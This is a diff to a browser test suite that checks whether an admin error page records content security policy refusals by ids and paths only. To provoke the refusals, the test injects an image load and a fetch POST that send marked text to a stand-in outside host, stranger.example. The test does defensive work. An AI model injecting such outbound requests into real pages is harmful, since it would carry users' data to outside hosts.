@@ -9,6 +9,7 @@ import { startApi, type TestApi } from '../../support/api.js';
 import { launchChromium } from '../../support/chromium.js';
 import { silentLogger } from '../../support/silentLogger.js';
 import { until } from '../../support/until.js';
+import { fillBrewhouse } from '../../support/web/brewhouse.js';
 import { logInAt, seriousFindings, watchComplaints, webFolder } from '../../support/web/pages.js';
 import { errorIds, fillErrors } from '../../support/web/someErrors.js';
 
@@ -146,6 +147,51 @@ describe('the page of errors', () => {
     );
     assert.doesNotMatch(stored[0]?.all ?? '', /a text of somebody|search=none|clipboard/);
     assert.deepEqual(complaints.splice(0), ['no "clipboard"', 'a text of somebody']);
+  });
+
+  it('shows what the content security policy refused to a page of each client, by ids and paths only', async () => {
+    const password = (await addPerson(api.pool, 'berta', 'brewer')) ?? '';
+    const { rows: people } = await api.pool.query<{ person_id: string }>(
+      `select person_id from identity.person where login = 'berta'`,
+    );
+    await fillBrewhouse(api.pool, 'berta', people[0]!.person_id, Date.now());
+    await logInAt(page, `${api.url}/machines/keg-3?search=somebody`, 'berta', password);
+    await page.getByRole('heading', { name: 'keg-3' }).first().waitFor();
+    await page.evaluate(
+      `document.body.append(Object.assign(new Image(), { src: 'https://stranger.example/?text=of-somebody' }))`,
+    );
+    const examples = async () => {
+      const { rows: stored } = await api.pool.query<{ example: string }>(
+        `select example from operations.error_group order by roles`,
+      );
+      return stored.map(({ example }) => JSON.parse(example) as Record<string, unknown>);
+    };
+    await until('the one of the app came', async () => (await examples()).length === 1);
+
+    await context.clearCookies();
+    await logInAt(page, `${api.url}/admin/errors?search=somebody`, 'admin', api.password);
+    await page.getByRole('button', { name: 'Show the latest' }).waitFor();
+    await page.evaluate(
+      `void fetch('https://stranger.example/?text=of-somebody', { method: 'POST', body: 'of-somebody' }).catch(() => {})`,
+    );
+    await until('the one of admin came', async () => (await examples()).length === 2);
+    const refused = (role: string, name: string, place: object) => ({
+      ...{ level: 'error', role, ...place, err: { type: name, message: '', stack: name } },
+      msg: 'a page was refused something by the content security policy',
+    });
+    assert.deepEqual(
+      (await examples()).map(({ time: _time, ...example }) => example),
+      [
+        refused('admin', 'connect-src', { path: '/admin/errors' }),
+        refused('app', 'img-src', { path: '/machines/keg-3', deviceId: 'keg-3' }),
+      ],
+    );
+    await page.getByRole('link', { name: 'Clear filters' }).click();
+    await shown(2);
+    await rows().getByText('img-src').click();
+    await page.locator('.error-detail').getByText('keg-3', { exact: true }).waitFor();
+    // Chromium says so of each, and may say it twice.
+    for (const said of complaints.splice(0)) assert.match(said, /Content Security Policy/);
   });
 
   it('is for operators and admins only, on the server and in the rail', async () => {
